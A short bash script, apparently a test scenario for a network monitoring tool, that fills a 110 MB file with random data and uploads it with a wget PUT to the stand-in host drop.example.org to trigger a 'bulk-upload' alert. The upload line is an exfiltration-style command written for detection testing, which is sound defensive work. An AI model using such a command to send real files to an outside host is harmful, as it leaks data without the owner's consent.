#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=bulk-upload half=report tool=wget seconds=40 parts=dns,nas,outside-web before=yes
# wget puts one file of 110 MB outside; it sent little before (rows of an earlier session).
if [ "$1" = before ]; then exec "$(dirname "$0")/../far/learnt.sh" hours; fi
head -c 110000000 /dev/urandom >"$LAB/big"
wget -q -O /dev/null --method=PUT --body-file="$LAB/big" http://drop.example.org/drop/big
sleep 8; rm -f "$LAB/big"; true
